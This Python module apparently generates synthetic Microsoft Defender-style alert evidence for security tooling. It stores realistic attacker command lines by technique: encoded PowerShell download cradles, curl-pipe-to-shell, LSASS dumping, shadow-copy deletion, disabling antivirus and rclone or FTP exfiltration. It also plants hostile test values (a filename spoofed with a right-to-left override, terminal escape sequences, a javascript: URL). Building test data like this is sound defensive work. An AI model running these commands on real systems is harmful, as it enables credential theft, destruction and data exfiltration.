"""Evidence for one alert: the entities a product would attach for a technique on its surface.

Endpoint alerts carry the device, the process (with its image file and account), the user and, for
payloads, the file; command-and-control and exfiltration add the remote IP and URL. Identity alerts
carry the user, the source device and IP; cloud identity alerts the user, the sign-in IP and sometimes
the session; cloud-app alerts the user, IP, application and mailbox rules; mail alerts the mailbox,
the analysed message, its URL or attachment and the sender IP; DLP alerts the user and the file.
Each entity gets one verdict and remediation status per incident (:class:`Ctx.mark`).
"""

from __future__ import annotations

import base64
import random
from typing import TYPE_CHECKING

from afteraction.model import Evidence, RemediationStatus, Verdict
from afteraction.synth import entities as e
from afteraction.synth.catalog import CLOUD_APP, CLOUD_IDENTITY, DLP, ENDPOINT, IDENTITY, MAIL

if TYPE_CHECKING:
    from datetime import datetime

    from afteraction.synth.plan import Plan

R = RemediationStatus
# type -> ((remediation, details, weight), ...) for entities of true-positive incidents
_REMEDIATION: dict[str, tuple[tuple[RemediationStatus, str | None, float], ...]] = {
    "file": ((R.REMEDIATED, "Quarantined by Microsoft Defender Antivirus", 0.55), (R.PREVENTED, None, 0.15),
             (R.BLOCKED, None, 0.1), (R.UNREMEDIATED, None, 0.12), (R.NONE, None, 0.08)),
    "process": ((R.REMEDIATED, "Process terminated", 0.5), (R.NONE, None, 0.42), (R.UNREMEDIATED, None, 0.08)),
    "url": ((R.BLOCKED, "Blocked by a custom indicator", 0.45), (R.NONE, None, 0.4), (R.UNREMEDIATED, None, 0.15)),
    "ip": ((R.BLOCKED, "Blocked by a custom indicator", 0.45), (R.NONE, None, 0.4), (R.UNREMEDIATED, None, 0.15)),
    "analyzedMessage": ((R.REMEDIATED, "Soft deleted by zero-hour auto purge", 0.7), (R.NONE, None, 0.15),
                        (R.UNREMEDIATED, None, 0.15)),
    "mailboxConfiguration": ((R.REMEDIATED, "Rule removed", 0.6), (R.UNREMEDIATED, None, 0.25),
                             (R.NONE, None, 0.15)),
    "device": ((R.REMEDIATED, "Device isolated", 0.25), (R.NONE, None, 0.7), (R.UNREMEDIATED, None, 0.05)),
    "user": ((R.REMEDIATED, "Password reset and sessions revoked", 0.35), (R.NONE, None, 0.55),
             (R.UNREMEDIATED, None, 0.1)),
    "registryValue": ((R.REMEDIATED, "Registry value deleted", 0.6), (R.UNREMEDIATED, None, 0.2),
                      (R.NONE, None, 0.2)),
}
_VICTIMS = frozenset({"device", "user", "mailbox", "cloudApplication", "cloudLogonSession", "internal_ip"})
_COMMANDS: dict[str, tuple[str, str]] = {
    "T1059.001": ("powershell.exe", "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}"),
    "T1059.003": ("cmd.exe", "cmd.exe /c whoami /all & ipconfig /all"),
    "T1059.005": ("wscript.exe", "wscript.exe //B C:\\Users\\{account}\\Downloads\\invoice_{n}.vbs"),
    "T1204.004": ("powershell.exe", "powershell.exe -w h -c \"iwr https://{domain}/verify | iex\""),
    "T1204.002": ("winword.exe", "\"WINWORD.EXE\" /n C:\\Users\\{account}\\Downloads\\invoice_{n}.docm"),
    "T1047": ("wmic.exe", "wmic.exe /node:{host} process call create \"cmd.exe /c {path}\""),
    "T1053.005": ("schtasks.exe", "schtasks.exe /create /tn \"OneDrive Update\" /tr \"{path}\" /sc onlogon /f"),
    "T1547.001": ("reg.exe", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater "
                             "/d \"{path}\" /f"),
    "T1218.011": ("rundll32.exe", "rundll32.exe {path},DllRegisterServer"),
    "T1218.005": ("mshta.exe", "mshta.exe https://{domain}/app.hta"),
    "T1562.001": ("powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"),
    "T1070.001": ("wevtutil.exe", "wevtutil.exe cl Security"),
    "T1070.004": ("cmd.exe", "cmd.exe /c del /f /q {path}"),
    "T1003.001": ("rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} "
                                  "C:\\ProgramData\\lsass.dmp full"),
    "T1087.002": ("net.exe", "net.exe group \"Domain Admins\" /domain"),
    "T1018": ("nltest.exe", "nltest.exe /dclist:contoso.com"),
    "T1082": ("systeminfo.exe", "systeminfo.exe"),
    "T1083": ("cmd.exe", "cmd.exe /c dir /s /b C:\\Users"),
    "T1016": ("ipconfig.exe", "ipconfig.exe /all"),
    "T1021.001": ("mstsc.exe", "mstsc.exe /v:{host}"),
    "T1021.002": ("cmd.exe", "cmd.exe /c copy {path} \\\\{host}\\ADMIN$\\"),
    "T1570": ("cmd.exe", "cmd.exe /c copy {path} \\\\{host}\\C$\\ProgramData\\"),
    "T1490": ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    "T1105": ("certutil.exe", "certutil.exe -urlcache -split -f https://{domain}/{file} {path}"),
    "T1560.001": ("7z.exe", "7z.exe a -pS3cret C:\\ProgramData\\out.7z C:\\Users\\{account}\\Documents"),
    "T1567.002": ("rclone.exe", "rclone.exe copy C:\\Shares\\Finance remote:backup --transfers 16"),
    "T1048.003": ("curl.exe", "curl.exe -T C:\\ProgramData\\out.7z ftp://{ip}/"),
    "T1052.001": ("explorer.exe", "explorer.exe E:\\"),
    "T1569.002": ("PsExec.exe", "PsExec.exe \\\\{host} -s cmd.exe /c {path}"),
}
_LOLBINS = ("powershell.exe", "cmd.exe", "rundll32.exe", "regsvr32.exe")
_NETWORK_TACTICS = frozenset({"command-and-control", "exfiltration"})
_PAYLOAD_TACTICS = frozenset({"execution", "persistence", "command-and-control", "impact", "defense-evasion"})


class Ctx:
    """Per-incident state for building evidence: its random stream, its assets and entity marks."""

    def __init__(self, plan: Plan, index: int, tp: bool) -> None:
        self.plan = plan
        self.index = index
        self.tp = tp
        self.rng = rng = e.seeded(plan.seed * (1 << 40) + index)
        env = plan.env
        self.user = env.user(rng.randrange(env.n_users))
        self.other_user = env.user(rng.randrange(env.n_users))
        self.device = env.endpoint(rng.randrange(env.n_devices), "windows")
        self.server = env.endpoint(rng.randrange(12), "server")
        self.dc = env.endpoint(rng.randrange(2), "server")._replace(host=f"dc-{rng.randrange(2):02d}")
        self.ips: list[str] = []
        self.domains: list[str] = []
        self.marks: dict[tuple[str, str], e.Mark] = {}
        self.unremediated: list[tuple[str, str]] = []
        self.hostile = index in plan.hostile
        self.evidence = 0

    def mark(self, etype: str, key: str) -> e.Mark:
        """The entity's verdict, remediation and roles in this incident (drawn once per entity)."""
        found = self.marks.get((etype, key))
        if found is not None:
            return found
        rng = self.rng
        if not self.tp:
            m = e.Mark(Verdict.NO_THREATS_FOUND if rng.random() < 0.6 else Verdict.SUSPICIOUS, R.NONE, None, ())
        elif etype in _VICTIMS:
            roles = ("compromised",) if etype in ("device", "user") and rng.random() < 0.6 else ()
            rem, details = _draw(rng, etype)
            m = e.Mark(Verdict.SUSPICIOUS, rem, details, roles)
        else:
            rem, details = _draw(rng, etype)
            m = e.Mark(Verdict.MALICIOUS if rng.random() < 0.8 else Verdict.SUSPICIOUS, rem, details, ())
        if m.remediation is R.UNREMEDIATED:
            self.unremediated.append((etype, key))
        self.marks[(etype, key)] = m
        return m

    def ip(self) -> str:
        return self.rng.choice(self.ips) if self.ips else e.incident_ip(self.index)

    def domain(self) -> str:
        return self.rng.choice(self.domains) if self.domains else e.domain_name(1_000_000 + self.index, self.plan.seed)


def _draw(rng: random.Random, etype: str) -> tuple[RemediationStatus, str | None]:
    table = _REMEDIATION.get(etype)
    if table is None:
        return R.NONE, None
    u = rng.random()
    for rem, details, weight in table:
        u -= weight
        if u < 0:
            return rem, details
    return table[-1][0], table[-1][1]


Payload = tuple[str, str]  # (file name, hash key)


def payload(ctx: Ctx, software: str | None) -> Payload:
    """The dropped or executed file: named after the software when there is one."""
    if software is not None:
        name = e.slug(ctx.plan.cat.software[software].name) + ".exe"
        cluster = ctx.plan.cluster_of.get(ctx.index)
        owner = f"cluster|{cluster.id}" if cluster else str(ctx.index)
        key = f"{ctx.plan.seed}|{owner}|{software}"
    else:
        name = f"{e.WORDS_A[ctx.rng.randrange(len(e.WORDS_A))]}{ctx.rng.randrange(10, 99)}.dll"
        key = f"{ctx.plan.seed}|{ctx.index}|{name}"
    if ctx.hostile and ctx.rng.random() < 0.5:
        name = "invoice\u202egpj.exe"  # right-to-left override: shows as invoiceexe.jpg
    return name, key


def _command(ctx: Ctx, tech: str, os_name: str, path: str, file: str) -> tuple[str, str]:
    rng = ctx.rng
    if os_name != "windows":
        shell = "/bin/bash" if os_name == "linux" else "/bin/zsh"
        return shell.rsplit("/", 1)[-1], f"{shell} -c 'curl -fsSL https://{ctx.domain()}/{file} | sh'"
    image, template = _COMMANDS.get(tech) or (rng.choice(_LOLBINS), "{image} {path}")
    b64 = ""
    if "{b64}" in template:
        script = f"IEX (New-Object Net.WebClient).DownloadString('https://{ctx.domain()}/a{rng.randrange(100)}')"
        b64 = base64.b64encode(script.encode("utf-16-le")).decode()
    cmd = template.format(image=image, path=path, b64=b64, account=ctx.user.account, n=rng.randrange(100, 999),
                          host=ctx.server.host, domain=ctx.domain() if "{domain}" in template else "",
                          ip=ctx.ip() if "{ip}" in template else "", file=file)
    if ctx.hostile and rng.random() < 0.3:
        cmd += " \x1b[31m\x1b]0;owned\x07"
    return image, cmd


def endpoint_evidence(ctx: Ctx, tech: str, tactic: str, os_name: str, software: str | None,
                      when: datetime, when_text: str) -> list[Evidence]:
    """Device, process, user (and file, registry, IP, URL where the step has them)."""
    rng, plan = ctx.rng, ctx.plan
    dev = ctx.device if os_name == "windows" else plan.env.endpoint(ctx.index, os_name)
    out = [e.device_evidence(dev, when, ctx.mark("device", dev.mde_id))]
    file_name, key = payload(ctx, software)
    folder = "C:\\ProgramData\\" if rng.random() < 0.5 else f"C:\\Users\\{ctx.user.account}\\AppData\\Local\\Temp\\"
    path = folder + file_name if os_name == "windows" else f"/tmp/{file_name}"  # noqa: S108 (text, not a file)
    image, cmd = _command(ctx, tech, os_name, path, file_name)
    if software is not None and tech not in _COMMANDS:
        image, cmd = file_name, f"{path} {rng.choice(('-s', '/run', '--service', ''))}".strip()
        image_spec = e.FileSpec(image, folder.rstrip("\\"), key)
    else:
        image_spec = e.FileSpec(image, "C:\\Windows\\System32" if os_name == "windows" else "/usr/bin",
                                f"system|{os_name}|{image}")
    pid, ppid = 1000 + rng.randrange(60000), 500 + rng.randrange(20000)
    pkey = f"{dev.mde_id}:{pid}:{when_text}"
    out.append(e.process_evidence(image_spec, cmd, pid, ppid, dev, ctx.user, when_text, ctx.mark("process", pkey),
                                  when))
    if software is not None or (tactic in _PAYLOAD_TACTICS and rng.random() < 0.5):
        spec = e.FileSpec(file_name, path.rsplit("\\" if os_name == "windows" else "/", 1)[0], key)
        out.append(e.file_evidence(spec, dev.mde_id, when, ctx.mark("file", e.file_sha256(spec))))
    if tech == "T1547.001":
        reg = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        out.append(e.registry_evidence(reg, "Updater", path, dev.mde_id, when,
                                       ctx.mark("registryValue", f"HKEY_CURRENT_USER\\{reg}\\Updater")))
    if tactic in _NETWORK_TACTICS or tech == "T1105":
        ip = ctx.ip()
        roles = ("commandAndControl",) if tactic == "command-and-control" else ("destination",)
        m = ctx.mark("ip", ip)
        out.append(e.ip_evidence(ip, e.country_of(ip), when,
                                 m._replace(roles=roles)))
        url = f"https://{ctx.domain()}/{rng.choice(('api', 'cdn', 'update', 'submit'))}/{rng.randrange(1000)}"
        out.append(e.url_evidence(url, when, ctx.mark("url", url)))
    out.append(e.user_evidence(ctx.user, when, ctx.mark("user", ctx.user.sid)))
    return out


def identity_evidence(ctx: Ctx, when: datetime) -> list[Evidence]:
    """MDI: the attacked account, the source device and its IP, the domain controller."""
    d = ctx.device
    return [
        e.user_evidence(ctx.user, when, ctx.mark("user", ctx.user.sid)._replace(roles=("attacked",))),
        e.device_evidence(d, when, ctx.mark("device", d.mde_id)._replace(roles=("source",))),
        e.ip_evidence(d.ip, None, when, ctx.mark("internal_ip", d.ip)._replace(roles=("source",))),
        e.device_evidence(ctx.dc, when, ctx.mark("device", ctx.dc.mde_id)._replace(roles=("destination",))),
    ]


def cloud_identity_evidence(ctx: Ctx, when: datetime, when_text: str) -> list[Evidence]:
    """Entra ID Protection: the account, the sign-in IP and sometimes the session."""
    ip = ctx.ip()
    out = [e.user_evidence(ctx.user, when, ctx.mark("user", ctx.user.sid)),
           e.ip_evidence(ip, e.country_of(ip), when, ctx.mark("ip", ip))]
    if ctx.rng.random() < 0.4:
        sid = e.guid(ctx.plan.seed, "session", ctx.index)
        out.append(e.session_evidence(sid, ctx.rng.choice(("Edge 131", "Chrome 130", "Firefox 132")), when_text,
                                      ctx.mark("cloudLogonSession", sid), when))
    return out


_CONFIG = {"T1564.008": "userInboxRule", "T1114.003": "mailForwardingRule", "T1098.002": "mailDelegation"}


def cloud_app_evidence(ctx: Ctx, tech: str, when: datetime) -> list[Evidence]:
    """Defender for Cloud Apps: account, IP, application, mailbox rules or the exfiltration URL."""
    ip = ctx.ip()
    app = e.CLOUD_APPS[0] if tech.startswith(("T1114", "T1564", "T1098.002")) else (
        e.CLOUD_APPS[1] if tech.startswith(("T1530", "T1213")) else e.CLOUD_APPS[3])
    out = [e.user_evidence(ctx.user, when, ctx.mark("user", ctx.user.sid)),
           e.ip_evidence(ip, e.country_of(ip), when, ctx.mark("ip", ip)),
           e.cloud_app_evidence(app, when, ctx.mark("cloudApplication", str(app[1])))]
    kind = _CONFIG.get(tech)
    if kind is not None:
        cid = e.guid(ctx.plan.seed, "config", ctx.index, tech)
        out.append(e.mailbox_config_evidence(kind, cid, ctx.user, when, ctx.mark("mailboxConfiguration", cid)))
    return out


def mail_evidence(ctx: Ctx, tech: str, when: datetime) -> list[Evidence]:
    """Defender for Office 365: recipient mailbox, analysed message, its URL or attachment, sender IP."""
    rng = ctx.rng
    internal = tech in ("T1534", "T1657")
    sender = ctx.user.upn if internal else f"{rng.choice(('billing', 'hr', 'it-support', 'docs'))}@{ctx.domain()}"
    recipient = ctx.other_user if internal else ctx.user
    url = f"https://{ctx.domain()}/{rng.choice(('login', 'invoice', 'shared', 'verify'))}?id={rng.randrange(10**6)}"
    if ctx.hostile and rng.random() < 0.5:
        url = "javascript:alert(document.domain)"
    nmid = e.guid(ctx.plan.seed, "message", ctx.index, tech)
    sender_ip = ctx.device.ip if internal else ctx.ip()
    subject = rng.choice(("Invoice overdue", "Shared document: Q3 budget", "Action required: password expiry",
                          "Updated payment details", "Voicemail received"))
    has_link = tech != "T1566.001"
    out = [e.mailbox_evidence(recipient, when, ctx.mark("mailbox", recipient.upn)),
           e.message_evidence(nmid, subject, sender, sender_ip, recipient.upn, [url] if has_link else [],
                              "Phish" if has_link else "Malware", "delivered" if rng.random() < 0.7 else "blocked",
                              when, ctx.mark("analyzedMessage", nmid))]
    if has_link:
        out.append(e.url_evidence(url, when, ctx.mark("url", url)))
    else:
        name = rng.choice(("invoice.docm", "statement.xlsm", "scan.iso", "order.zip"))
        spec = e.FileSpec(name, "", f"{ctx.plan.seed}|{ctx.index}|attachment|{name}")
        out.append(e.file_evidence(spec, None, when, ctx.mark("file", e.file_sha256(spec))))
    if not internal:
        out.append(e.ip_evidence(sender_ip, None, when, ctx.mark("ip", sender_ip)._replace(roles=("source",))))
    return out


def dlp_evidence(ctx: Ctx, tech: str, when: datetime) -> list[Evidence]:
    """Data loss prevention: the user, the sensitive file, and the upload URL or the device."""
    rng = ctx.rng
    name = rng.choice(("Q3-financials.xlsx", "customer-list.csv", "roadmap-2027.pptx", "payroll.xlsx"))
    spec = e.FileSpec(name, f"https://contoso.sharepoint.com/sites/finance/Shared Documents/{name}",
                      f"{ctx.plan.seed}|{ctx.index}|dlp|{name}")
    out = [e.user_evidence(ctx.user, when, ctx.mark("user", ctx.user.sid)),
           e.file_evidence(spec, None, when, ctx.mark("file", e.file_sha256(spec)))]
    if tech.startswith("T1052"):
        out.append(e.device_evidence(ctx.device, when, ctx.mark("device", ctx.device.mde_id)))
    else:
        url = f"https://{ctx.domain()}/upload/{rng.randrange(10**6)}"
        out.append(e.url_evidence(url, when, ctx.mark("url", url)))
    return out


def evidence_for(ctx: Ctx, tech: str, tactic: str, surface: str, os_name: str, software: str | None,
                 when: datetime, when_text: str) -> list[Evidence]:
    """The evidence list of an alert for ``tech`` seen on ``surface``."""
    if surface == ENDPOINT:
        out = endpoint_evidence(ctx, tech, tactic, os_name, software, when, when_text)
    elif surface == IDENTITY:
        out = identity_evidence(ctx, when)
    elif surface == CLOUD_IDENTITY:
        out = cloud_identity_evidence(ctx, when, when_text)
    elif surface == CLOUD_APP:
        out = cloud_app_evidence(ctx, tech, when)
    elif surface == MAIL:
        out = mail_evidence(ctx, tech, when)
    elif surface == DLP:
        out = dlp_evidence(ctx, tech, when)
    else:
        out = []
    ctx.evidence += len(out)
    return out


def ensure_infrastructure(ctx: Ctx, evidence: list[list[Evidence]], required: bool) -> tuple[list[str], list[str]]:
    """The attacker IPs and domains the alerts show; when none and ``required``, the first alert gets the IP."""
    ips, domains = _seen(ctx, evidence)
    if required and not ips and not domains and evidence:
        ip = ctx.ips[0] if ctx.ips else e.incident_ip(ctx.index)
        when = evidence[0][0].created if evidence[0] else None
        evidence[0].append(e.ip_evidence(ip, e.country_of(ip), when, ctx.mark("ip", ip)._replace(roles=("attacker",))))
        ctx.evidence += 1
        ips, domains = _seen(ctx, evidence)
    return ips, domains


def _seen(ctx: Ctx, evidence: list[list[Evidence]]) -> tuple[list[str], list[str]]:
    ips = {x.ip_address for lst in evidence for x in lst if x.ip_address in ctx.ips}
    urls = [x.url for lst in evidence for x in lst if x.url]
    senders = {x.sender for lst in evidence for x in lst if x.sender}
    domains = {d for d in ctx.domains
               if any(f"//{d}/" in u for u in urls) or any(s.endswith("@" + d) for s in senders)}
    return sorted(ips), sorted(domains)
